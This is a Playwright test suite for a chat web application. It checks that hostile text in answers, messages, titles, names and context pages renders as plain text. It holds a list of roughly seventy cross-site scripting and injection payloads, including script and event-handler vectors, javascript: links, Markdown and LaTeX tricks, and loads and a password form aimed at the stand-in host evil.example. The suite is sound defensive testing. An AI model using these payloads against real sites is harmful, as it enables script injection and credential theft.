"""Text that tries to be more than text: in answers, messages, titles and names."""

import pytest
from playwright.sync_api import expect

from accounts import create_administrator, create_chat, patch, put
from chat_page import ChatPage

# Each calls `pwned` or contacts another origin if any of it runs.
PAYLOADS = [
    "<script>pwned()</script>",
    "<ScRiPt>pwned()</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script>pwned()",
    "</script><script>pwned()</script>",
    "<img src=x onerror=pwned()>",
    "<img src=//evil.example/x.png>",
    "<img/src=`x`onerror=pwned()>",
    "<svg onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned()></style></mglyph></table></mtext></math>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<iframe src=javascript:pwned()>",
    "<object data=//evil.example/x.swf></object>",
    "<embed src=//evil.example/x>",
    "<form action=//evil.example><input name=password><button>Go</button></form>",
    "<input autofocus onfocus=pwned()>",
    "<details open ontoggle=pwned()>",
    "<video><source onerror=pwned()></video>",
    "<body onload=pwned()>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(//evil.example/x)'>x</p>",
    "<template><script>pwned()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
    "<!--<img src='--><img src=x onerror=pwned()>'>",
    "<![CDATA[><img src=x onerror=pwned()>]]>",
    "[x](javascript:pwned())",
    "[x](JaVaScRiPt&colon;pwned())",
    "[x](java\tscript:pwned())",
    "[x](&#x6A;avascript:pwned())",
    "[x](data:text/html,<script>pwned()</script>)",
    "[x](vbscript:pwned())",
    '[x](https://example.org/"onmouseover="pwned())',
    '[x](https://example.org "t\\"onmouseover=pwned() x=\\"")',
    "<javascript:pwned()>",
    "![x](//evil.example/x.png)",
    '![x" onerror="pwned()](https://evil.example/x.png)',
    "![x][r]\n\n[r]: https://evil.example/x.png",
    "```html\" onmouseover=\"pwned()\n<img src=x onerror=pwned()>\n```",
    "```\n</code></pre><script>pwned()</script>\n```",
    "`</code><script>pwned()</script>`",
    "| <img src=x onerror=pwned()> |\n|---|\n| <script>pwned()</script> |",
    "- [ ] <img src=x onerror=pwned()>",
    "# <img src=x onerror=pwned()>",
    "{{constructor.constructor('pwned()')()}}",
    "${pwned()} #{pwned()} <%= pwned() %>",
    "\u202e<script>pwned()</script>\u2028<img src=x onerror=pwned()>",
    "\u2067<script>pwned()</script>\u2069 \u200f[x](javascript:pwned())",
    r"$\href{javascript:pwned()}{x}$",
    r"$\url{javascript:pwned()}$ $\includegraphics{https://evil.example/x.png}$",
    r"$$\htmlStyle{background:url(//evil.example/x)}{x}$$",
    r"\(\htmlData{x=1}{<img src=x onerror=pwned()>}\)",
    r"\[\text{<script>pwned()</script>}\]",
    r"$\pmb{x}\fcolorbox{red}{blue}{y}\class{z}{w}$",
    r"$\def\a{\a\a}\a$ $\kern99999em\rule{9999em}{9999em}$",
    "$" + "{" * 2000 + "x" + "}" * 2000 + "$",
    "$<img src=x onerror=pwned()>$ $$<script>pwned()</script>$$",
    "```jsx\n<img src=x onerror={pwned()}>{`${pwned()}`}\n```",
    "```__proto__\n<img src=x onerror=pwned()>\n```",
    "```../../api\npwned()\n```",
    "[https://bank.example](https://xn--bnk-7cd.example)",
    "[https://bank.example](https://bаnk.example/%0d%0aSet-Cookie:x)",
    "> " * 10_000 + "<script>pwned()</script>",
    "- " * 10_000 + "<img src=x onerror=pwned()>",
    "[" * 10_000 + "](javascript:pwned())",
    "```\n<script>pwned()</script>",
    "~~~html\n<img src=x onerror=pwned()>\n```\n<script>pwned()",
]

# The same for a one-line field, which accepts no invisible characters.
LINES = [line for line in (" ".join(payload.split()) for payload in PAYLOADS) if line.isprintable() and len(line) <= 255]

COUNT_CALLS = "window.calls = 0; window.pwned = () => { window.calls += 1; };"

# The pages themselves contain none of these either, so the whole document is checked.
TRACES = """
() => [...document.querySelectorAll("*:not(popup-menu, message-list)")].flatMap((element) => [
    ...[...element.attributes].filter(({ name }) => /^on|^style$|^srcdoc$/i.test(name)),
    ...[...element.attributes].filter(({ name, value }) => /^(href|src|action|data)$/.test(name)
        && !["http:", "https:", "mailto:"].includes(new URL(value, location.href).protocol)),
].map((attribute) => `${element.tagName} ${attribute.name}=${attribute.value}`))
"""
FOREIGN = ":is(chat-list, .message .body, .window-title, .account-name, .account-facts, .dialog-subject)"
ELEMENTS = ["script", "style", "link", "meta", "base", "iframe", "frame", "object", "embed", "svg:not(.icon)", "math:not(.formula > math)",
            "img", "picture", "video", "audio", "source", "form", "input", "textarea", "select", "details", "template"]


@pytest.fixture
def chat(parley, visitors):
    context = visitors(parley)
    context.add_init_script(COUNT_CALLS)
    create_administrator(parley, context)
    page = context.new_page()
    page.dialogs = []
    page.on("dialog", lambda dialog: (page.dialogs.append(dialog.message), dialog.dismiss()))
    return ChatPage(page).open()


@pytest.mark.parametrize("payload", ["<img src=x onerror=pwned()>", "<script>pwned()</script>"])
def test_the_trap_catches_what_is_put_into_a_page_unescaped(visitors, payload):
    context = visitors()
    context.add_init_script(COUNT_CALLS)
    context.watch.allow("ERR_")
    page = context.new_page()

    page.route("http://trap.example/", lambda route: route.fulfill(content_type="text/html", body=f"<p>{payload}"))
    page.goto("http://trap.example/")

    page.wait_for_function("() => window.calls > 0")


def test_hostile_answers_and_messages_stay_text(chat, model):
    for payload in PAYLOADS:
        model.says(*(payload[start : start + 3] for start in range(0, len(payload), 3)))
    chat.open(create_chat(chat.page.context, "Hostile"))

    for payload in PAYLOADS:
        chat.ask(payload).is_answered()
        if payload.startswith("<"):
            expect(chat.body).to_contain_text(payload.split()[0].strip("<>")[:4])
        is_harmless(chat.page)
    chat.page.reload()

    expect(chat.reply).to_be_visible()
    is_harmless(chat.page)
    assert [message["content"] for message in chat.stored()[-2:]] == [PAYLOADS[-1], PAYLOADS[-1]]


def test_a_line_of_a_megabyte_is_shown(chat, model):
    model.says("word " * 200_000 + "<img src=x onerror=pwned()>")
    chat.open(create_chat(chat.page.context, "Long"))

    chat.ask("Go on.").is_answered()

    expect(chat.body).to_contain_text("word <img src=x onerror=pwned()>")
    is_harmless(chat.page)


def test_hostile_titles_stay_text(chat):
    context = chat.page.context
    current = create_chat(context, LINES[0])
    chat.open(current).is_connected()

    for title in LINES:
        patch(context, f"/api/v1/chats/{current}", title=title)
        expect(chat.page.locator(".window-title")).to_have_text(title)
        expect(chat.chats.locator(".chat-title")).to_have_text(title)
        is_harmless(chat.page)
    chat.chats.locator(".chat-more").click()
    chat.menu.locator("[data-action=delete]").click()
    expect(chat.undo_bar).to_contain_text(LINES[-1])
    chat.undo_bar.hover()  # pauses the countdown
    is_harmless(chat.page)
    chat.undo_bar.get_by_role("button").click()
    chat.open(current)
    expect(chat.page.locator(".window-title")).to_have_text(LINES[-1])
    is_harmless(chat.page)


def test_hostile_names_stay_text(chat):
    for name in [line for line in LINES if len(line) <= 80][::3]:
        patch(chat.page.context, "/api/v1/auth/me", display_name=name)

        chat.open()

        expect(chat.page.locator(".account-name")).to_have_text(name)
        is_harmless(chat.page)


def test_hostile_contexts_names_and_titles_stay_text_on_the_other_pages(chat):
    context = chat.page.context
    content = "\n\n".join(PAYLOADS)
    for scope in ["context", "admin/context"]:
        put(context, f"/api/v1/{scope}", content=content)
        put(context, f"/api/v1/{scope}", content=f"Before.\n\n{content}")
    patch(context, "/api/v1/auth/me", display_name=LINES[0])
    create_chat(context, LINES[5])

    for path in ["/", "/settings", "/settings/context/versions", "/settings/context/versions/2", "/admin/context",
                 "/admin/context/versions", "/admin/context/versions/2", "/admin/users", "/search?q=onerror"]:
        response = chat.page.goto(path)
        assert response.status == 200, path
        is_harmless(chat.page)


def is_harmless(page):
    strange = ", ".join(f"{FOREIGN} {element}" for element in ELEMENTS)
    assert page.locator(strange).count() == 0, page.locator(strange).first.evaluate("element => element.outerHTML")
    assert page.evaluate(TRACES) == []
    assert page.evaluate("() => window.calls") == 0
    assert page.dialogs == []
